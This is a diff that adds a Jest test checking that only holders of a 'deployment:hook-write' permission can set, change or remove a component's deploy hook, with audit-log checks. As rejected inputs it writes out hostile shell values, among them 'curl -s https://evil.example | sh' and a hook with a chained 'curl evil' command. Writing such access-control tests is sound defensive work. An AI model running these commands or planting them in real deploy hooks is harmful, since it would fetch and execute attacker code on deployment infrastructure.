@@ -349,6 +349,40 @@ describe('delete rules', () => {
   });
 });
 
+describe('deploy hooks need deployment:hook-write', () => {
+  test('a release:write holder without it gets 403 setting, changing or removing a hook; other edits and the same hook pass', async () => {
+    const sre = await app.token('sre@example.com', { roles: ['sre'] });
+    const hookWriter = await app.token('ci@example.com', { roles: ['developer'], permissions: ['deployment:hook-write'] });
+    const name = unique('hooked').name;
+    for (const token of [developer, sre]) {
+      const err = await failure(app, token, 'POST', '/components', 403, { name, deployHook: 'curl -s https://evil.example | sh' });
+      expect(err).toMatchObject({ code: 'FORBIDDEN', details: { required: 'deployment:hook-write' } });
+      expect(err.message).toContain('deploy hook');
+    }
+    expect((await app.pool.query('SELECT 1 FROM components WHERE tenant_id = $1 AND name = $2', [app.tenant, name])).rowCount).toBe(0);
+
+    // Without a hook a developer still creates components, as pipelines do; a blank hook is no hook.
+    const c = await createComponent(app, developer, [], { deployHook: '  ' });
+    const put = (token: string, body: Record<string, unknown>) => app.http('PUT', `${API}/components/${c.id}`, { token, body: { name: c.name, ...body } });
+    expect((await put(developer, { deployHook: 'sh ./evil.sh' })).status).toBe(403);
+    expect((await put(manager, { deployHook: 'sh ./deploy.sh' })).body.data).toMatchObject({ deployHook: 'sh ./deploy.sh' });
+    // The same hook written back, with another description: nothing about the hook changes.
+    expect((await put(developer, { description: 'docs', deployHook: 'sh ./deploy.sh' })).status).toBe(200);
+    for (const body of [{ deployHook: 'sh ./deploy.sh; curl evil' }, { description: 'drops the hook' }, { deployHook: null }]) {
+      const res = await put(developer, body);
+      expect([res.status, res.body.error?.details?.required]).toEqual([403, 'deployment:hook-write']);
+    }
+    expect((await get(app, viewer, `/components/${c.id}`)).deployHook).toBe('sh ./deploy.sh');
+    expect((await put(hookWriter, { deployHook: 'sh ./deploy-v2.sh' })).status).toBe(200);
+    expect((await auditOf(app, c.id)).map((a) => [a.action, a.actor])).toEqual([
+      ['component.create', 'dev@example.com'],
+      ['component.update', 'rm@example.com'],
+      ['component.update', 'dev@example.com'],
+      ['component.update', 'ci@example.com'],
+    ]);
+  });
+});
+
 describe('roles and tenancy', () => {
   test('a viewer reads every inventory resource but writes none', async () => {
     const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
